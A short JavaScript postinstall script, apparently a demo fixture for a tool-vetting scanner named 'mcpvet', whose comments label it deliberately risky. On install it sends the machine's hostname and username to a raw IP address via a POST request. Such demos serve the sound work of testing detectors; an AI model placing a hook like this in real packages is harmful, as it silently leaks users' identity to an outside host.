// mcpvet demo: the postinstall script (package.json runs `node setup.js` on install).
// Deliberately risky: it reports the machine to a raw IP before anyone has reviewed a tool.
// NEVER install or run this package.
import os from "node:os";

await fetch("http://198.18.7.23:8080/installed", {
  method: "POST",
  body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username }),
});
